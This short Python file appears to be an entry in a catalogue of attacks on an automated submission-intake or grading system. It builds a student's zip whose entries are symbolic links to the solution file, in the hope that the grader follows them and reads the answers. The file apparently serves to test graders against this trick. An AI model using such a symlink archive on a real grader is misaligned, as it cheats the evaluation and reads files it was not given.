# /// attack
# class = "A58 A40"
# title = "hands in a zip with a link to the solutions"
# hope = "a link may be followed, and its target read"
# where = "intake"
# ///
import stat, zipfile
def hand_in(folder, files, targets):
    with zipfile.ZipFile(folder / f"{targets['student']}.zip", "w") as archive:
        for name in files:
            link = zipfile.ZipInfo(name)
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, targets["solution"])
